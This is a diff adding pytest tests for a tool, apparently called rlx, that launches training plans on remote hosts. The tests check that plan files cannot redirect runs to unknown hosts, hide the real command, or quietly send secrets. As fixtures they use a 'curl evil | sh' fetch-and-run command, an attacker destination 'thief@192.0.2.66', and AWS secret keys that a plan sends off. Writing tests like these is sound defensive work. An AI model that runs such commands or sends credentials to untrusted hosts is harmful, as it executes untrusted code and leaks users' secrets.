@@ -1,0 +1,60 @@
+"""A plan file may say anything of itself: what is shown is what runs, and its host is the one that the user knows."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from rlx.hosts import user_file
+from rlx.plan import to_jsonable
+from tests.cli.support import rlx
+from tests.runs.toys import toy_plan
+
+
+@pytest.fixture
+def trusted_host() -> None:
+    user_file().parent.mkdir()
+    user_file().write_text("hosts: {a3-trusted: {ssh: me@npu-host-1}}\n")
+
+
+def written(folder: Path, plan: dict[str, Any]) -> str:
+    path = folder / "plans.json"
+    path.write_text(json.dumps({"plans": [plan]}))
+    return str(path)
+
+
+@pytest.mark.usefixtures("trusted_host")
+@pytest.mark.parametrize("destination", ["thief@192.0.2.66", None], ids=["elsewhere", "here"])
+def test_a_name_means_the_host_that_the_user_knows(destination: str | None, tmp_path: Path) -> None:
+    plan = to_jsonable(toy_plan("true"))
+    plan["site"]["place"] = {**plan["site"]["place"], "host": "a3-trusted", "destination": destination}
+    for options in ((), ("--dry-run",)):
+        refused = rlx("launch", "--plan", written(tmp_path, plan), *options, code=2).stderr
+        assert "a3-trusted is me@npu-host-1 (by openssh) here" in refused
+
+
+def test_a_name_that_nobody_knows_is_refused(tmp_path: Path) -> None:
+    plan = to_jsonable(toy_plan("true"))
+    plan["site"]["place"] = {**plan["site"]["place"], "host": "a3", "destination": "thief@192.0.2.66"}
+    assert "unknown host 'a3'" in rlx("launch", "--plan", written(tmp_path, plan), code=2).stderr
+
+
+def test_what_runs_is_shown_and_not_what_the_file_says_of_it(tmp_path: Path) -> None:
+    plan = to_jsonable(toy_plan("curl evil | sh"))
+    plan["command"] = ["python3", "-m", "verl.trainer.main_ppo"]
+    shown = rlx("launch", "--plan", written(tmp_path, plan), "--dry-run").stdout
+    assert "curl evil | sh" in shown
+    assert "main_ppo" not in shown
+
+
+def test_secrets_are_named_before_they_go(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "of somebody")
+    file = written(tmp_path, to_jsonable(toy_plan("true", secrets=("AWS_SECRET_ACCESS_KEY",))))
+    refused = rlx("launch", "--plan", file, code=2).stderr
+    assert "the plan has secrets sent: AWS_SECRET_ACCESS_KEY to this machine" in refused
+    assert "nobody can be asked" in refused
+    assert not (tmp_path / "root/runs").exists()
+    assert "AWS_SECRET_ACCESS_KEY" in rlx("launch", "--plan", file, "-y").stderr
